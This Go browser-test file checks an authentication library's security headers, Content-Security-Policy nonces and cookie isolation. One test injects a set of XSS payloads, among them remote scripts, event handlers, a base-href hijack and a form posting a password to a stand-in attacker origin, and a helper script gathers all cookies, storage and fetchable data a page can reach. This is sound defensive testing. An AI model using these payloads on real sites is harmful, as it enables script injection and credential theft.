package browsertest

import (
	"bytes"
	"context"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"
	"github.com/pawlauth/pawl/httpauth"
)

var nonceOf = regexp.MustCompile(`'nonce-([^']+)'`)

// Every page says the strictest policy under which it works, and keeps to it:
// nothing is violated and nobody else is contacted, which every tab of every
// test watches for. No answer has the nonce of another.
//
// Rows: 52, 54, 55, 69, 246
func TestPagesKeepToTheirPolicy(t *testing.T) {
	nonces := make(map[string]string)
	walk(t, "en", func(t *testing.T, s *site, b *tab, st state) {
		header := s.lastPage().answer.header
		policy := strings.Split(header.Get("Content-Security-Policy"), "; ")
		for _, want := range []string{"default-src 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'", "style-src 'self'"} {
			if !slices.Contains(policy, want) {
				t.Errorf("the policy %q does not say %s", policy, want)
			}
		}
		for name, want := range map[string]string{"Cross-Origin-Opener-Policy": "same-origin", "Referrer-Policy": "no-referrer",
			"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff"} {
			if got := header.Get(name); got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
		if m := nonceOf.FindStringSubmatch(header.Get("Content-Security-Policy")); m != nil {
			if other, known := nonces[m[1]]; known {
				t.Errorf("the nonce is that of %s", other)
			}
			nonces[m[1]] = st.name
		}
		// What the policy stops is not even there.
		if n := eval[int](b, `document.querySelectorAll("style, [style], script:not([src]), base, object, embed, iframe").length`); n > 0 {
			t.Errorf("%d elements that a policy is there to stop", n)
		}
		if n := eval[int](b, `[...document.querySelectorAll("*")].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith("on")).length`); n > 0 {
			t.Errorf("%d handlers in attributes", n)
		}
	})
	if len(nonces) < 10 {
		t.Errorf("saw only %d nonces", len(nonces))
	}
}

// Markup that somebody manages to put into a page does nothing: it runs no
// script, changes no look, loads nothing, and sends nothing anywhere.
//
// Rows: 52
func TestInjectedMarkupDoesNothing(t *testing.T) {
	for _, path := range []string{"/auth/signin", "/auth/devices", "/auth/renew?return_to=%2Freport"} {
		t.Run(path, func(t *testing.T) {
			s := newSite(t)
			b := s.newTab(t)
			b.violationsWanted = true
			b.signIn("ada")
			evil := s.stranger.origin
			markup := `<base href="` + evil + `/">` +
				`<script>window.ran = "inline"</script>` +
				`<script nonce="">window.ran = "empty nonce"</script>` +
				`<script src="` + evil + `/x.js"></script>` +
				`<script type="module">window.ran = "module"</script>` +
				`<img src="` + evil + `/x.png" onerror="window.ran = 'handler'">` +
				`<svg onload="window.ran = 'svg'"></svg>` +
				`<style>main { display: none !important }</style>` +
				`<link rel="stylesheet" href="` + evil + `/x.css">` +
				`<iframe src="` + evil + `/frame" srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>` +
				`<object data="` + evil + `/object"></object>` +
				`<a id="js" href="javascript:window.ran='link'">x</a>` +
				`<form id="thief" method="post" action="` + evil + `/take"><input name="password" value="typed"><button id="give">x</button></form>`
			s.altered(func(r *http.Request, a *answer) {
				if strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
					a.body = bytes.Replace(a.body, []byte("<main"), []byte(markup+"<main"), 1)
					a.header.Del("Content-Length")
				}
			})
			if path == "/auth/signin" {
				path = "/auth/signin?switch=1"
			}
			if strings.HasPrefix(path, "/auth/renew") {
				b.withoutScript() // or it goes on before it can be looked at
			}
			b.open(path)
			if !b.has("#js") {
				t.Fatal("nothing was injected")
			}
			b.withScript()
			eval[any](b, `document.getElementById("js").click()`)
			eval[any](b, `document.getElementById("give").click()`)
			// As a script on the page would do it that came some other way.
			eval[any](b, `{ const s = document.createElement("script"); s.textContent = "window.ran = 'inserted'"; document.body.append(s); }`)
			eval[any](b, `document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror=\"window.ran = 'inserted handler'\">")`)
			b.await(`new Promise((done) => setTimeout(() => done(true), 50))`)
			if ran := eval[string](b, `String(window.ran)`); ran != "undefined" {
				t.Errorf("%s ran", ran)
			}
			if eval[string](b, `getComputedStyle(document.querySelector("main")).display`) == "none" {
				t.Error("the injected style applies")
			}
			if n := s.stranger.visits(); n > 0 {
				t.Errorf("the other site was contacted %d times", n)
			}
			if n := len(b.violated()); n < 5 {
				t.Errorf("only %d violations; the test proves nothing", n)
			}
		})
	}
}

// No script can find a token, whatever it looks at; the browser has them all
// the same, and the server sends them in no other way (which holds for every
// test, see checkLeaks).
//
// Rows: 3
func TestNoScriptSeesAToken(t *testing.T) {
	s := newSite(t)
	b := s.newTab(t)
	b.signIn("ada")
	for _, path := range []string{"/", "/auth/devices", "/auth/password", "/auth/signin"} {
		b.open(path)
		seen := eval[string](b, everythingInReach)
		if !strings.Contains(seen, "csrf_token") && path == "/auth/devices" {
			t.Fatal("the script saw nothing at all")
		}
		cookies := b.cookies()
		if len(cookies) != 2 {
			t.Fatalf("the browser has %d cookies", len(cookies))
		}
		for name, c := range cookies {
			if !c.HTTPOnly || !c.Secure {
				t.Errorf("%s: HttpOnly %v, Secure %v", name, c.HTTPOnly, c.Secure)
			}
			for part := range strings.SplitSeq(c.Value, ".") {
				if strings.Contains(seen, part) {
					t.Errorf("on %s a script sees a part of %s", path, name)
				}
			}
			if strings.Contains(seen, name) {
				t.Errorf("on %s a script sees that there is %s", path, name)
			}
		}
	}
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	all, err := chromedp.CallBrowser(ctx, storage.GetCookies, storage.GetCookiesParams{BrowserContextID: chromedp.FromContext(b.ctx).BrowserContextID})
	if err != nil || len(all.Cookies) != 2 {
		t.Errorf("%d cookies, want the two: %v", len(all.Cookies), err)
	}
	for name, path := range map[string]string{httpauth.AccessCookie: "/", httpauth.RefreshCookie: "/auth"} {
		if c := b.cookies()[name]; c.Path != path {
			t.Errorf("%s has path %q", name, c.Path)
		}
	}
}

// everythingInReach is what a script on the page can read.
const everythingInReach = `(async () => {
	const found = [document.cookie, document.documentElement.outerHTML, location.href, document.referrer, window.name, JSON.stringify(history.state)];
	if (window.cookieStore) found.push(JSON.stringify(await cookieStore.getAll()));
	for (const kept of [localStorage, sessionStorage]) found.push(JSON.stringify({ ...kept }));
	if (window.caches) found.push(JSON.stringify(await caches.keys()));
	if (indexedDB.databases) found.push(JSON.stringify(await indexedDB.databases()));
	if (navigator.serviceWorker) found.push(String((await navigator.serviceWorker.getRegistrations()).length));
	found.push(JSON.stringify(performance.getEntries()));
	for (const path of ["/auth/session", "/auth/sessions", location.href]) {
		try {
			const answer = await fetch(path, { credentials: "include" });
			found.push(JSON.stringify([...answer.headers]), await answer.text());
		} catch (e) {
			found.push(String(e));
		}
	}
	return found.join("\n");
})()`

// visits counts what the stranger was asked for, its own pages aside.
func (s *stranger) visits() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.seen)
}
